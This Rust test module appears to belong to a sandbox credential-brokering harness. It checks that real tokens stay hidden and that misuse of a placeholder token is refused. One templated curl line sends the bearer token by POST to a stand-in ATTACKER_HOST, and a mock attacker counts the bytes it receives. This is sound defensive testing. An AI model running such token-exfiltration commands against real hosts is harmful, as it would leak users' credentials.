//! What the main job shows of the credentials: where they are, and where they are not.

use anyhow::{Context as _, Result};
use serde::Serialize;
use serde_json::Value;

use super::{Keys, MANAGED};
use crate::rig::{ATTACKER_HOST, REFERO_HOST, Rig};
use crate::world::World;

/// Facts about the credentials after the agent has worked.
#[derive(Debug, Serialize)]
pub struct Proofs {
    /// Value of `REFERO_MCP_TOKEN` inside, cut.
    pub environment: String,
    /// Whether any real value is in an environment, a file or a process of the sandbox.
    pub real_value_inside: bool,
    /// Whether the local provider saw the real token (absent with a real provider).
    pub provider_saw_real_token: Option<bool>,
    /// What misuse of the placeholder was answered with.
    pub refusals: Vec<Refusal>,
    /// Bytes that reached the attacker with this sandbox's placeholder or a real value among them (absent
    /// without the local one).
    pub attacker_bytes: Option<usize>,
    /// Audit rows: method, host, path, connector, decision.
    pub audit: Vec<String>,
    /// Whether `connectors list` shows a value.
    pub list_shows_a_value: bool,
    /// Code of `connectors token` on the managed connector.
    pub token_code: String,
}

/// One misuse of the placeholder and its answer.
#[derive(Debug, Serialize)]
pub struct Refusal {
    /// What was tried.
    pub attempt: String,
    /// Status of the answer.
    pub status: u64,
    /// Its code.
    pub code: String,
}

/// Gathers all of it.
pub async fn gather(world: &World, rig: Option<&Rig>, keys: &Keys, id: &str) -> Result<Proofs> {
    let environment = stdout(&world.exec(id, "printf %s \"$REFERO_MCP_TOKEN\"").await?);
    let list = world.run(&["connectors", "list", "--json"]).await?;
    let token = world
        .run(&["connectors", "token", MANAGED, "--json"])
        .await?;
    let token: Value =
        serde_json::from_slice(&token.stdout).context("`connectors token` printed no JSON")?;
    let mut refusals = Vec::new();
    for (attempt, method, url) in attempts() {
        refusals.push(misuse(world, id, &attempt, method, &url).await?);
    }
    let list = String::from_utf8_lossy(&list.stdout).into_owned();
    Ok(Proofs {
        environment: environment.chars().take(16).collect::<String>() + "…",
        real_value_inside: real_value_inside(world, id, keys).await?,
        provider_saw_real_token: rig.map(provider_saw_real_token),
        refusals,
        attacker_bytes: rig.map(|rig| attacker_bytes(rig, keys, &environment)),
        audit: audit(world, id).await?,
        list_shows_a_value: list.contains(&keys.refero) || list.contains(&keys.anthropic),
        token_code: token["error"]["code"]
            .as_str()
            .unwrap_or("none: a token was given")
            .to_owned(),
    })
}

/// The attacker of the tests is there for others too: what counts is what is ours.
fn attacker_bytes(rig: &Rig, keys: &Keys, placeholder: &str) -> usize {
    let received = rig.attacker.received();
    let marks = [placeholder, &keys.refero, &keys.anthropic];
    let is_ours = |mark: &&str| {
        received
            .windows(mark.len())
            .any(|text| text == mark.as_bytes())
    };
    if marks.iter().any(is_ours) {
        received.len()
    } else {
        0
    }
}

fn attempts() -> [(String, &'static str, String); 5] {
    [
        (
            "another host".to_owned(),
            "POST",
            format!("https://{ATTACKER_HOST}/mcp"),
        ),
        (
            "the host of another connector".to_owned(),
            "GET",
            "https://api.anthropic.com/v1/models".to_owned(),
        ),
        (
            "another path".to_owned(),
            "POST",
            format!("https://{REFERO_HOST}/admin"),
        ),
        (
            "another method".to_owned(),
            "PATCH",
            format!("https://{REFERO_HOST}/mcp"),
        ),
        (
            "plain HTTP".to_owned(),
            "POST",
            format!("http://{REFERO_HOST}/mcp"),
        ),
    ]
}

async fn misuse(
    world: &World,
    id: &str,
    attempt: &str,
    method: &str,
    url: &str,
) -> Result<Refusal> {
    let text = format!(
        "curl -sS -o /tmp/answer -w '%{{http_code}}\\n' -X {method} -H \"Authorization: Bearer $REFERO_MCP_TOKEN\" {url}; cat /tmp/answer"
    );
    let answer = world.exec(id, &text).await?;
    let text = stdout(&answer);
    let (status, body) = text.split_once('\n').unwrap_or((&text, ""));
    let body: Value = serde_json::from_str(body).unwrap_or_default();
    Ok(Refusal {
        attempt: attempt.to_owned(),
        status: status.trim().parse().unwrap_or(0),
        code: body["error"]["code"].as_str().unwrap_or("none").to_owned(),
    })
}

fn provider_saw_real_token(rig: &Rig) -> bool {
    let expected = format!("Bearer {}", rig.refero_token);
    rig.refero
        .log
        .all()
        .iter()
        .any(|seen| seen.header("authorization") == Some(expected.as_str()))
}

/// Searches files, environments and command lines of the whole sandbox. The value itself never enters:
/// what is looked for is passed in two halves that only the search program joins.
async fn real_value_inside(world: &World, id: &str, keys: &Keys) -> Result<bool> {
    let mut found = false;
    for value in [&keys.refero, &keys.anthropic] {
        let (first, second) = value.split_at(value.len() / 2);
        let program = miosa_selftest::SEARCH;
        let text = format!("python3 - {first} {second} <<'EOS'\n{program}\nEOS");
        found |= stdout(&world.exec(id, &text).await?).contains("FOUND");
    }
    Ok(found)
}

async fn audit(world: &World, id: &str) -> Result<Vec<String>> {
    let rows = world
        .json(&["audit", "list", "--sandbox", id, "--limit", "100", "--json"])
        .await?;
    let field = |row: &Value, name: &str| row[name].as_str().unwrap_or("-").to_owned();
    let line = |row: &Value| {
        let names = ["method", "host", "path", "connector", "effect", "code"];
        names.map(|name| field(row, name)).join(" ")
    };
    Ok(rows
        .as_array()
        .map(|rows| rows.iter().map(line).collect())
        .unwrap_or_default())
}

fn stdout(answer: &Value) -> String {
    answer["stdout"].as_str().unwrap_or_default().to_owned()
}
